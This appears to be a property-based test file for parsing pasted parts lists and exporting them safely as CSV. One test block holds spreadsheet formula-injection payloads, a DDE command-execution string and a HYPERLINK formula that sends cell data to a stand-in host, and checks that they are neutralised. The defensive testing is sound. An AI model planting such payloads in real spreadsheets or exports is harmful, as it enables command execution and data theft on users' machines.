import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { listFragment } from '../../../../src/parts-list/model/list-fragment';
import { pastedCsv, readLinked, readPasted } from '../../../../src/parts-list/model/pasted-list';
import { growth } from '../../growth';
import { PROPERTY_RUNS } from '../../property-runs';
import { FORMS } from './list-forms';

/** The cells of a CSV file as a spreadsheet reads them, with this separator. */
function cellsOf(csv: string, separator = ','): string[][] {
  expect(csv.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end = ''] of csv
    .slice(1)
    .matchAll(new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(${separator}|\\r\\n|$)`, 'g'))) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
const sent = (text: string) => cellsOf(pastedCsv(readPasted(text)));
const listed = (texts: string) => texts.split('¦');

describe('B16 a pasted table', () => {
  it.each(FORMS)('is handed on as it is: %s', (_, separator, quotes, ...rows) => {
    const cells = rows.map((row) =>
      row.split('|').map((cell) => cell.replaceAll('\\n', '\n').replaceAll('\\t', '\t')),
    );
    const isQuoted = (cell: string) => quotes === 'all' || /["\n]/.test(cell) || cell.includes(separator);
    const written = (cell: string) => (isQuoted(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
    for (const end of ['\n', '\r\n']) {
      const text = cells.map((row) => row.map(written).join(separator)).join(end) + end;
      expect(readPasted(text)).toMatchObject({ rows: cells, isParts: false, isList: true });
      expect(sent(text)).toEqual(cells);
    }
  });

  const text = fc.constantFrom(
    ...'EX358DR¦0,25¦1,000¦¥2.50¦C1, C2¦R1;R2¦Cap; 16V, X5R¦LQFP-48¦5" LCD¦"A" grade¦U1\nU2¦'.split('¦'),
  );
  const table = fc.integer({ min: 0, max: 5 }).chain((between) => {
    const texts = fc.array(text, { minLength: between, maxLength: between });
    const row = fc.tuple(fc.constantFrom('EX358DR', '9551', '100nF'), texts, fc.constantFrom('10', '500'));
    return fc.record({
      titles: fc.array(fc.constantFrom('Bill of materials', 'Source: a.sch, rev 2', '# by; a tool')),
      headings: fc.constantFrom([], [['#', ...Array<string>(between).fill('单价(￥)'), 'Qty']]),
      rows: fc.array(row, { minLength: 2, maxLength: 8 }),
      footer: fc.constantFrom([], [['合计', ...Array<string>(between + 1).fill('')]]),
    });
  });
  it.each(['\t', ';', ','])('is handed on as it is: any with %j between its cells', (separator) => {
    fc.assert(
      fc.property(table, fc.boolean(), ({ titles, headings, rows, footer }, isAllQuoted) => {
        const written = (cell: string) =>
          isAllQuoted || /["\n]/.test(cell) || cell.includes(separator)
            ? `"${cell.replaceAll('"', '""')}"`
            : cell;
        const cells = [
          ...titles.map((title) => [title]),
          ...headings,
          ...rows.map((row) => row.flat()),
          ...footer,
        ];
        const list = readPasted(cells.map((row) => row.map(written).join(separator)).join('\r\n'));
        expect(list.isList).toBe(true);
        if (!list.isParts) expect(list.rows).toEqual(cells);
      }),
      { numRuns: PROPERTY_RUNS },
    );
  });

  it.each([
    [
      '"Qty", "Value", "Parts"\n"3", "100nF", "C1, C2"\n"1", "EX358" , "U1"',
      [
        ['Qty', 'Value', 'Parts'],
        ['3', '100nF', 'C1, C2'],
        ['1', 'EX358', 'U1'],
      ],
    ],
    ['ＥＸ３５８　１０\nＥＸ１０４　２０', [['ＥＸ３５８　１０'], ['ＥＸ１０４　２０']]],
    ['EX358DR   2   1.00\nEX104K    10  0.20', [['EX358DR   2   1.00'], ['EX104K    10  0.20']]],
    [
      '您好，\n\n请报价：\nEX358DR 10 pcs\nEX104K 20 pcs',
      [['您好，'], ['请报价：'], ['EX358DR 10 pcs'], ['EX104K 20 pcs']],
    ],
    ['| EX358DR | 10 |\n| EX104K | 20 |', [['| EX358DR | 10 |'], ['| EX104K | 20 |']]],
    ['EX358DR\nEX104K', [['EX358DR'], ['EX104K']]],
    [
      `${'Source: a.sch, rev 2\n'.repeat(4)}EX358DR;C1, C2;R1;10\nEX104K;1,000;R2;10`,
      [
        ...Array<string[]>(4).fill(['Source: a.sch, rev 2']),
        ['EX358DR', 'C1, C2', 'R1', '10'],
        ['EX104K', '1,000', 'R2', '10'],
      ],
    ],
    [
      'C25744_GD_100~C17513_JS_50',
      [
        ['C25744', 'GD', '100'],
        ['C17513', 'JS', '50'],
      ],
    ],
    [
      'EX35\u200b8DR\t1\u202d0\n\ufeffEX\u00ad104K\t',
      [
        ['EX358DR', '10'],
        ['EX104K', ''],
      ],
    ],
  ])('is read by its lines, or by quotes with blanks around them: %j', (text, rows) => {
    expect(readPasted(text)).toMatchObject({ rows, isParts: false, isList: true });
  });
});

it('S36 a pasted list is the one that its link opens', () => {
  const cell = fc.oneof(
    fc.constantFrom('EX358DR', "'=1", '=1+1', '10', '', '1,000', 'a*b;c', '\u202e1'),
    fc.string({ maxLength: 6 }),
  );
  const row = fc.array(cell, { minLength: 1, maxLength: 3 });
  fc.assert(
    fc.property(
      fc.array(row, { minLength: 1, maxLength: 5 }),
      fc.constantFrom('\t', ',', ' x '),
      (rows, between) => {
        const { isList: _, ...list } = readPasted(rows.map((cells) => cells.join(between)).join('\n'));
        expect(readLinked(listFragment(list))).toEqual({ ...list, first: expect.any(String) });
      },
    ),
    { numRuns: PROPERTY_RUNS },
  );
});

describe('B16 a list of parts and quantities', () => {
  it.each([
    ...listed(`BSS138 x 500¦2 x BSS138¦BSS138*100¦BSS138\t100¦BSS138 × 500¦BSS138×5¦3*BSS138¦2x BSS138`),
    ...listed(`  BSS138 X 5 ¦BSS138 \t 100`),
  ])('is %j in every line', (line) => {
    const { rows, isParts } = readPasted(`${line}\n\nC25744 x 7\r\n`);
    expect([rows[0]?.[0], rows[1], isParts]).toEqual(['BSS138', ['C25744', '7'], true]);
    expect(rows[0]?.[1]).toBe(/\d+(?=\s*$)|^\d/.exec(line.replace('BSS138', ''))?.[0]);
    expect(sent(`${line}\nC25744 x 7`)[0]).toEqual(['型号', '数量']);
  });

  it.each([
    ...listed(
      `BSS138 500¦BSS138x500¦BSS138 x 0500¦BSS138 x 1,000¦BSS138 x 1.000¦BSS138 x -5¦BSS138 x 0¦谢谢`,
    ),
    ...listed(`BSS138\t10\t5¦型号\t数量¦BSS138 x 5 pcs¦1. BSS138 x 5¦9.5E+12\t10¦7812 x 5¦7812\t5¦电阻 x 5`),
    ...listed(`=BSS138 x 5¦BSS138*5*5¦500\tBSS138¦<BSS138> x 5¦BSS138, x 5¦BSS138 x 1000000000`),
  ])('is a text as it is as soon as one line is %j', (line) => {
    const text = `BSS138 x 500\nC25744*2\n${line}`;
    expect(readPasted(text).isParts).toBe(false);
    expect(sent(text)[0]?.[0]).toBe('BSS138 x 500');
  });
});

describe('B16 any other text', () => {
  it.each([
    ...listed(
      `EX358DR¦EX358DR x 10¦EX358DR\t10¦贴片电容, 0603¦10K 0603 1%, 风华¦R1,R2,R3¦C25744_GD_100¦¦\n\t\n`,
    ),
    ...listed(`您好，\n请问有货吗？\n谢谢¦Hello, we need parts\nThanks, John¦Dear all,\nplease quote,\nBye`),
    ...listed(`In 2019, I bought EX358\nIn 2020, no more¦We tried the EX358.\nIt beats the EX104K.\nFine.`),
    ...listed(
      `https://a.example/x1\nhttps://b.example/x2¦a1@example.com\nb2@example.com¦width: 10px;\nheight: 5px;`,
    ),
    ...listed(`<comp ref="C1">\n<value>EX104K</value>\n</comp>¦{"ref":"C1","qty":10,\n"mpn":"EX358"}`),
    ...listed(`[\n{"mpn":"EX358","qty":1},\n{"mpn":"EX104","qty":2}]¦[1,2,\n3,4]¦let a = 5;\nlet b = 6;`),
    ...listed(`电阻,一\n电容,二¦型号,数量\nEX358DR,10`),
  ])('is a search: %j', (text) => {
    expect(readPasted(text).isList).toBe(false);
  });

  it('has at most 5000 rows, 200 000 characters and a hundred columns as a list', () => {
    const isList = (text: string) => readPasted(text).isList;
    expect([5000, 5001].map((count) => isList('x1y2\n'.repeat(count)))).toEqual([true, false]);
    expect([100, 101].map((count) => isList('x1y2\t1.5\n'.repeat(2) + '\t'.repeat(count - 1)))).toEqual([
      true,
      false,
    ]);
    const long = 'x1y2\n'.repeat(5000).padEnd(200_000);
    expect([isList(long), isList(`${long} `)]).toEqual([true, false]);
  });
});

describe('B16 NM7 a cell that a spreadsheet would evaluate', () => {
  const FORMULAS = [
    "=cmd|' /C calc'!A0",
    '＝HYPERLINK("http://e.example/?x="&B2,"EX32")',
    '@SUM(A1:A9)',
    '＋1+A1',
    'EX358A; =A1',
    'EX358A|"-A1',
    '-2+3+cmd|1',
    '\u200b=1+1',
    ' (=1+1',
  ];
  it.each(FORMULAS)('is sent as a text: %j', (formula) => {
    const [, [cell = ''] = []] = readPasted(`EX358\t5\n${formula}\t10\nEX104K\t7`).rows;
    expect(cell).toContain("'");
    expect(cell.replace(/^([^=+\-@＝＋]*)'/, '$1').replace(/'(?=[=-]A1)/, '')).toBe(
      formula.replace('\u200b', ''),
    );
  });

  const piece = fc.oneof(
    fc.constantFrom(
      ...'\t¦\n¦,¦;¦"¦\'¦×¦ ¦\u00a0¦\ufeff¦\u200b¦=¦＝¦+¦-¦@¦＠¦- ¦1. '.split('¦'),
      ..."10¦1,000¦-20%¦0.5¦1e3¦EX358¦型号¦、¦x¦|¦=cmd|' /C calc'!A0¦电阻".split('¦'),
    ),
    fc.string({ unit: 'binary', maxLength: 5 }),
  );
  it('is in no file of a pasted text, whose cells are those of the panel', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const list = readPasted(pieces.join(''));
        const csv = pastedCsv({ ...list, isParts: false });
        expect(cellsOf(csv)).toEqual(list.rows.length === 0 ? [] : list.rows);
        for (const separator of [',', ';', '\t'])
          for (const cell of cellsOf(csv, separator).flat())
            if (!/^[^\p{L}\p{N}=+@＝＋－＠]*-+[\d.]*%?\s*(?:["',;\t]|$)/u.test(cell))
              expect(cell).not.toMatch(/^[\s\p{C}"]*[=+\-@＝＋－＠]/u);
      }),
      { numRuns: Math.max(PROPERTY_RUNS, 600) },
    );
  });
});

it.each(['x1y2 ', 'x1y2,', '"', '\t"', '"a""', '"\n', ' x ', '* 1 ', 'EX358 1;', '1\n', '-1\n', '_1~C1_A'])(
  'B16 takes linear time for many %j',
  (part) => {
    expect(growth((length) => readPasted(part.repeat(length / part.length)), 1000)).toBeLessThan(40);
  },
);
